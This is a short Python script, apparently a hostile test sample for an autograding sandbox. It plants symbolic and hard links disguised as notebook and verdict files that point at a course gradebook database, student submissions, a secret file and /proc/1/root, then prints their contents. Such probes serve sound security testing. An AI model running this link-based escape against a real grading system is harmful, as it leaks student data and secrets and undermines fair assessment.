"""Leaves links in its directory that point to the course and to secrets."""
# %% extra
import os
for name in ("tiny.ipynb", "verdict", "checks.py.link", "out"):
    for target in ("@COURSE@/gradebook.db", "@COURSE@/submitted", "@SECRET@", "/proc/1/root"):
        try: os.symlink(target, f"{name}-{abs(hash(target))}")
        except OSError: pass
        try: os.link(target, f"hard-{name}-{abs(hash(target))}")
        except OSError: pass
for path in os.listdir("."):
    try: print(path, open(path, "rb").read(5000) if os.path.islink(path) else "")
    except OSError as error: print(type(error).__name__)
